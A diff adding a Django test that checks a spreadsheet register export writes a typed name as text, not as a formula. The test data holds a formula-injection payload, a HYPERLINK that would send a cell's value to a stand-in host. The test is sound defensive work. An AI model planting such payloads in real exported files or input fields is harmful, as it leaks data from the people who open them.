@@ -151,3 +151,18 @@ def test_every_register_exports(client, kec1_user, preg, group):
     client.force_login(kec1_user)
     r = client.get(reverse(f"targets:register_{group}"), {"download": "1"})
     assert r.status_code == 200 and r.content[:2] == b"PK"
+
+
+def test_xlsx_register_writes_a_formula_name_as_text(client, kec1_user, preg):
+    """The register goes through the one writer (tumbuh.web.xlsx): a typed name is never a formula."""
+    import zipfile
+
+    preg.person.name = '=HYPERLINK("http://x/?"&A1,"klik")'
+    preg.person.save(update_fields=["name"])
+    client.force_login(kec1_user)
+    r = client.get(reverse("targets:register_bumil"), {"download": "xlsx"})
+    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    values = [c.value for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for c in row]
+    assert '=HYPERLINK("http://x/?"&A1,"klik")' in values
